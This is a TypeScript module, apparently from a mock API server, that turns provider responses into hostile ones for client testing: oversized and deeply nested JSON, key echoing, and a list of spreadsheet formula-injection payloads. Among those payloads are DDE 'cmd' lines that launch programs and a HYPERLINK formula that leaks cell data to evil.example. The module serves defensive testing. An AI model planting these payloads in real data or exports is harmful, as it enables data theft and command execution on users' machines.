/**
 * The `hostile` fault: an answer no honest provider sends, played from the provider's real
 * answer (or its error body for `status`), so clients can be tested against it:
 *  - oversized: the JSON answer padded to `bytes` (default 200 MiB);
 *  - deep:      a value nested `depth` levels (default 100,000) added to the JSON answer;
 *  - formula:   every text value of the JSON answer (ids, statuses, URLs and cursors aside)
 *               turned into a spreadsheet formula (`=HYPERLINK(…)`, `@SUM(…)`, `=cmd|…`);
 *  - echoKey:   the API key the request presented echoed back — whole, upper-case, base64 and
 *               cut in half — in the answer's data and in its message texts.
 */
import type { IncomingHttpHeaders } from 'node:http';
import { header, type Reply } from './http';

export type HostilePlay = 'oversized' | 'deep' | 'formula' | 'echoKey';
export const HOSTILE_PLAYS: readonly HostilePlay[] = ['oversized', 'deep', 'formula', 'echoKey'];

export interface HostileOptions {
  play: HostilePlay;
  bytes?: number;
  depth?: number;
}

/** The key as the request presented it, in any of the five providers' auth headers. */
export function presentedKey(headers: IncomingHttpHeaders): string {
  const bearer = header(headers, 'authorization')?.replace(/^Bearer\s+/i, '');
  return bearer ?? header(headers, 'x-api-key') ?? header(headers, 'apikey') ?? '';
}

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open profile")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
];
const KEEP = /(^id$|Id$|_id$|^ids$|status|state|^type$|url|Url|uri|email|domain|event|next|cursor|token|format|^created|^updated|_at$|At$|date|currency|plan)/;
const MESSAGE = /^(message|error|detail|title|msg|description|error_description)$/i;

export function playHostile(reply: Reply, opts: HostileOptions, key: string): Reply {
  const text = typeof reply.body === 'string' ? reply.body : reply.body.toString('utf8');
  let body: unknown;
  try {
    body = JSON.parse(text);
  } catch {
    body = undefined;
  }
  const object = typeof body === 'object' && body !== null && !Array.isArray(body) ? (body as Record<string, unknown>) : { answer: body ?? text };
  const headers = { ...reply.headers, 'content-type': 'application/json; charset=utf-8' };
  switch (opts.play) {
    case 'oversized': {
      const size = opts.bytes ?? 200 * 1024 * 1024;
      const head = Buffer.from(JSON.stringify(object).replace(/\}$/, `${Object.keys(object).length ? ',' : ''}"padding":"`));
      const tail = Buffer.from('"}');
      return { ...reply, headers, body: Buffer.concat([head, Buffer.alloc(Math.max(0, size - head.length - tail.length), 0x78), tail]) };
    }
    case 'deep': {
      const depth = opts.depth ?? 100_000;
      const json = JSON.stringify(object).replace(/\}$/, `${Object.keys(object).length ? ',' : ''}"nested":${'['.repeat(depth)}${']'.repeat(depth)}}`);
      return { ...reply, headers, body: json };
    }
    case 'formula': {
      let n = 0;
      const rewrite = (value: unknown, name: string): unknown => {
        if (typeof value === 'string') return KEEP.test(name) || value === '' ? value : FORMULAS[n++ % FORMULAS.length];
        if (Array.isArray(value)) return value.map((v) => rewrite(v, name));
        if (typeof value === 'object' && value !== null) return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, rewrite(v, k)]));
        return value;
      };
      // And a text field of its own, for answers made only of numbers (a credit balance).
      const rewritten = rewrite(object, '') as Record<string, unknown>;
      const data = rewritten.data;
      if (typeof data === 'object' && data !== null && !Array.isArray(data)) rewritten.data = { ...data, display_name: FORMULAS[0] };
      return { ...reply, headers, body: JSON.stringify({ ...rewritten, display_name: FORMULAS[0] }) };
    }
    case 'echoKey': {
      const forms = [key, key.toUpperCase(), Buffer.from(key).toString('base64'), key.slice(0, Math.ceil(key.length / 2))];
      const echo = (value: unknown, name: string): unknown => {
        if (typeof value === 'string') return MESSAGE.test(name) ? `${value} (key received: ${key})` : value;
        if (Array.isArray(value)) return value.map((v) => echo(v, name));
        if (typeof value === 'object' && value !== null) return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, echo(v, k)]));
        return value;
      };
      const echoed = echo(object, '') as Record<string, unknown>;
      const data = echoed.data;
      // Inside the data a client passes on, and beside it.
      const withKey = (v: unknown) => (typeof v === 'object' && v !== null && !Array.isArray(v) ? { ...v, receivedKey: key, receivedKeyForms: forms } : v);
      if (Array.isArray(data)) echoed.data = data.map(withKey);
      else if (typeof data === 'object' && data !== null) echoed.data = withKey(data);
      return {
        ...reply,
        headers,
        body: JSON.stringify({
          ...echoed,
          api_key: key,
          request: { headers: { authorization: `Bearer ${key}` } },
          forms,
          message: `${String(echoed.message ?? '')} (key received: ${key})`.trim(),
        }),
      };
    }
  }
}
